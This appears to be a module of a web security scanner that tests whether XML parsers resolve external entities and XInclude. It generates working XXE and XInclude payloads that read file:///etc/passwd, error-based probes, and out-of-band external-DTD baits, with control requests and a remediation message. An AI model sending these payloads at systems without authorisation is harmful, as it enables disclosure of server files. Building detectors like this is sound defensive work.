"""Does an XML parser open what a document names? The same for bodies that are XML and for fields that hold it."""

import re
from collections.abc import Callable, Generator

from scanners.web.message import Request
from scanners.web.probing.page import Page
from scanners.web.probing.taken import takes
from scanners.web.probing.trial import Ask, Bait, Hits, Listen, Purpose, Trial
from scanners.web.probing.weakness import Verdict
from secops.model.text import Text

MEND = Text(
    "关闭 XML 解析器的外部实体、DTD 加载和 XInclude。",
    "Turn external entities, DTD loading and XInclude off in the XML parser.",
)
_PASSWD = re.compile(r"root:[^:\n]{0,120}:0:0:[^\n]{0,200}")
_PROLOG = re.compile(r"^\s*(?:<\?xml.*?\?>)?\s*(?:<!DOCTYPE[^>\[]*(?:\[.*?\])?\s*>)?\s*", re.DOTALL)
_TEXT = re.compile(r">[^<]*</")
_WORDS = re.compile(r">(?!\s*[\d.+-]*\s*</)[^<]*</")
_CANNOT_OPEN = r"(?:no such file|not found|failed|unable|cannot|could not|errno 2|i/o|ioexception|找不到|不存在)"
Inject = Callable[[str], Request]


def find_entities(
    trial: Trial, inject: Inject, document: str, page: Page
) -> Generator[Ask | Listen, Page | Hits, Verdict | None]:
    """A file that is shown, a missing one that is complained of, or a bait that is taken."""
    payload = with_entity(document, "file:///etc/passwd")
    seen = yield from trial.ask(inject(payload))
    found = _PASSWD.search(seen.plain)
    if found and not _PASSWD.search(page.plain):
        control = yield from trial.ask(inject(with_entity(document, f"file:///etc/{trial.mark(6)}")), Purpose.CONTROL)
        again = yield from trial.ask(inject(payload), Purpose.AGAIN)
        if _PASSWD.search(again.plain) and not _PASSWD.search(control.plain):
            because = Text("外部实体读出了系统文件内容", "an external entity read a file of the system")
            return Verdict(because, {"payload": payload, "response": found[0][:120]})
    return (yield from _complaint(trial, inject, document)) or (yield from _bait(trial, inject, document))


def with_entity(document: str, system: str) -> str:
    """The document with an entity of that address in the place of its texts, numbers left alone if there are others."""
    body = _PROLOG.sub("", document, count=1)
    name = re.match(r"<([^\s/>]+)", body)
    root = name[1] if name else "r"
    texts = _WORDS if _WORDS.search(body) else _TEXT
    filled = texts.sub(">&jd;</", body) if texts.search(body) else f"<{root}>&jd;</{root}>"
    return f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY jd SYSTEM "{system}">]>{filled}'


def _complaint(trial: Trial, inject: Inject, document: str) -> Generator[Ask | Listen, Page | Hits, Verdict | None]:
    """A file that is missing is complained of by its name; the same name in a text is not."""
    name = told = ""
    for purpose in (Purpose.ATTACK, Purpose.AGAIN):
        name = trial.mark()
        page = yield from trial.ask(inject(with_entity(document, f"file:///{name}")), purpose)
        told = _told(page, name)
        # An answer that repeats the document repeats the name as well.
        if not told or "<!entity" in page.plain.lower():
            return None
    control = yield from trial.ask(inject(_TEXT.sub(f">file:///{name}</", document, count=1)), Purpose.CONTROL)
    if _told(control, name):
        return None
    because = Text(
        f"解析器试图打开外部实体指向的文件并报错:{told[:120]}",
        f"the parser tried to open the file of an entity, and said so: {told[:120]}",
    )
    return Verdict(because, {"response": told[:200]}, rule="error")


def _told(page: Page, name: str) -> str:
    found = re.search(rf"(?is){_CANNOT_OPEN}.{{0,120}}{name}|{name}.{{0,120}}{_CANNOT_OPEN}", page.plain)
    return found[0] if found else ""


def _with_outside(document: str, address: str) -> str:
    """For parsers that refuse entities in texts: the definitions themselves are at the address."""
    body = _PROLOG.sub("", document, count=1)
    name = re.match(r"<([^\s/>]+)", body)
    outside = f'SYSTEM "{address}" [<!ENTITY % jd SYSTEM "{address}">%jd;]'
    return f'<?xml version="1.0"?><!DOCTYPE {name[1] if name else "r"} {outside}>{body}'


def _bait(trial: Trial, inject: Inject, document: str) -> Generator[Ask | Listen, Page | Hits, Verdict | None]:
    def baited(bait: Bait) -> Request:
        return inject(with_entity(document, bait.url))

    def baited_outside(bait: Bait) -> Request:
        return inject(_with_outside(document, bait.url))

    taken = (yield from takes(trial, baited)) or (yield from takes(trial, baited_outside))
    return Verdict(taken.because, {"hit": taken.shown}, rule="out-of-band") if taken else None


def inclusion_of(address: str) -> str:
    """An XInclude, to stand where text stands."""
    return f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" parse="text" href="{address}"/>'


def find_inclusion(trial: Trial, inject: Inject, page: Page) -> Generator[Ask | Listen, Page | Hits, Verdict | None]:
    """A file that comes in by XInclude, where the site puts a field into a document of its own."""
    payload = inclusion_of("file:///etc/passwd")
    seen = yield from trial.ask(inject(payload))
    found = _PASSWD.search(seen.plain)
    if not found or _PASSWD.search(page.plain):
        return None
    control = yield from trial.ask(inject(inclusion_of(f"file:///etc/{trial.mark(6)}")), Purpose.CONTROL)
    again = yield from trial.ask(inject(payload), Purpose.AGAIN)
    if not _PASSWD.search(again.plain) or _PASSWD.search(control.plain):
        return None
    because = Text("XInclude 读出了系统文件内容", "an inclusion (XInclude) read a file of the system")
    return Verdict(because, {"payload": payload, "response": found[0][:120]}, rule="inclusion")
